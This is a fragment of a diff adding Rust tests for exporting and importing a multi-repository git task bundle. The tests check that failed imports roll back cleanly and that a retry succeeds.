+        init_git_repo(&laptop_api, "git@example.com:acme/api.git");
+        init_git_repo(&laptop_web, "git@example.com:acme/web.git");
+        let api_path = dir.path.join("laptop-tasks/feature-a/api");
+        let web_path = dir.path.join("laptop-tasks/feature-a/web");
+        for (repo, path) in [(&laptop_api, &api_path), (&laptop_web, &web_path)] {
+            run_git(
+                repo,
+                &[
+                    "worktree",
+                    "add",
+                    "-b",
+                    "feature-a",
+                    path.to_string_lossy().as_ref(),
+                    "main",
+                ],
+            );
+        }
+        let task = Task::try_new(
+            "feature-a".to_string(),
+            "feature-a".to_string(),
+            dir.path.join("laptop-tasks/feature-a"),
+            "feature-a".to_string(),
+            vec![
+                task_worktree(&laptop_api, &api_path, "api"),
+                task_worktree(&laptop_web, &web_path, "web"),
+            ],
+        )
+        .expect("task should be valid");
+        let bundle_path = dir.path.join("feature-a.tar");
+        export_task(&task, &bundle_path).expect("export should succeed");
+
+        let devbox_api = dir.path.join("devbox/api");
+        let devbox_web = dir.path.join("devbox/web");
+        init_git_repo(&devbox_api, "https://example.com/acme/api");
+        init_git_repo(&devbox_web, "https://example.com/acme/web");
+        run_git(&devbox_web, &["checkout", "-b", "feature-a"]);
+        run_git(
+            &devbox_web,
+            &["commit", "--allow-empty", "-m", "local work"],
+        );
+        run_git(&devbox_web, &["checkout", "main"]);
+        let projects = [
+            named_project("api", devbox_api.clone()),
+            named_project("web", devbox_web.clone()),
+        ];
+        let devbox_tasks = dir.path.join("devbox-tasks");
+        let import = || {
+            import_task_in_root(
+                &devbox_tasks,
+                &bundle_path,
+                &projects,
+                &CommandGitRunner,
+                &CommandSetupScriptRunner,
+                &CommandSetupCommandRunner,
+            )
+        };
+
+        let error = import().expect_err("diverged web branch should fail the fetch");
+        assert!(error.contains("into web failed"), "{error}");
+        assert!(!devbox_tasks.join("feature-a").exists());
+        assert!(!git_succeeds(
+            &devbox_api,
+            &["rev-parse", "--verify", "refs/heads/feature-a"]
+        ));
+        assert!(git_succeeds(
+            &devbox_web,
+            &["rev-parse", "--verify", "refs/heads/feature-a"]
+        ));
+
+        run_git(&devbox_web, &["branch", "-D", "feature-a"]);
+        let imported = import().expect("retry should succeed after the conflict is gone");
+        assert_eq!(imported.task.worktrees.len(), 2);
+    }
+
+    #[test]
+    fn failed_import_resets_existing_branches_it_fast_forwarded() {
+        let dir = TestDir::new("rollback-existing");
+        let laptop_api = dir.path.join("laptop/api");
+        let laptop_web = dir.path.join("laptop/web");
+        init_git_repo(&laptop_api, "git@example.com:acme/api.git");
+        init_git_repo(&laptop_web, "git@example.com:acme/web.git");
+        let devbox_api = dir.path.join("devbox/api");
+        run_git(
+            &dir.path,
+            &[
+                "clone",
+                laptop_api.to_string_lossy().as_ref(),
+                devbox_api.to_string_lossy().as_ref(),
+            ],
+        );
+        run_git(
+            &devbox_api,
+            &[
+                "remote",
+                "set-url",
+                "origin",
+                "https://example.com/acme/api",
+            ],
+        );
+        run_git(&devbox_api, &["branch", "feature-a", "origin/main"]);
+        let api_path = dir.path.join("laptop-tasks/feature-a/api");
+        let web_path = dir.path.join("laptop-tasks/feature-a/web");
+        for (repo, path) in [(&laptop_api, &api_path), (&laptop_web, &web_path)] {
+            run_git(
+                repo,
+                &[
+                    "worktree",
+                    "add",
+                    "-b",
+                    "feature-a",
+                    path.to_string_lossy().as_ref(),
+                    "main",
+                ],
+            );
+        }
+        run_git(&api_path, &["commit", "--allow-empty", "-m", "api work"]);
+        let task = Task::try_new(
+            "feature-a".to_string(),
+            "feature-a".to_string(),
+            dir.path.join("laptop-tasks/feature-a"),
+            "feature-a".to_string(),
+            vec![
+                task_worktree(&laptop_api, &api_path, "api"),
+                task_worktree(&laptop_web, &web_path, "web"),
+            ],
+        )
+        .expect("task should be valid");
+        let bundle_path = dir.path.join("feature-a.tar");
+        export_task(&task, &bundle_path).expect("export should succeed");
+
+        let devbox_web = dir.path.join("devbox/web");
+        init_git_repo(&devbox_web, "https://example.com/acme/web");
+        run_git(&devbox_web, &["checkout", "-b", "feature-a"]);
+        run_git(
+            &devbox_web,
+            &["commit", "--allow-empty", "-m", "local work"],
+        );
+        run_git(&devbox_web, &["checkout", "main"]);
+        let api_oid_before = git_stdout(&devbox_api, &["rev-parse", "refs/heads/feature-a"])
+            .expect("existing branch should resolve");
+        let projects = [
+            named_project("api", devbox_api.clone()),
+            named_project("web", devbox_web.clone()),
+        ];
+
+        let error = import_task_in_root(
+            &dir.path.join("devbox-tasks"),
+            &bundle_path,
+            &projects,
+            &CommandGitRunner,
+            &CommandSetupScriptRunner,
+            &CommandSetupCommandRunner,
+        )
+        .expect_err("diverged web branch should fail the fetch");
+
+        assert!(error.contains("into web failed"), "{error}");
+        assert_eq!(
+            git_stdout(&devbox_api, &["rev-parse", "refs/heads/feature-a"]),
+            Ok(api_oid_before)
+        );
+    }
+}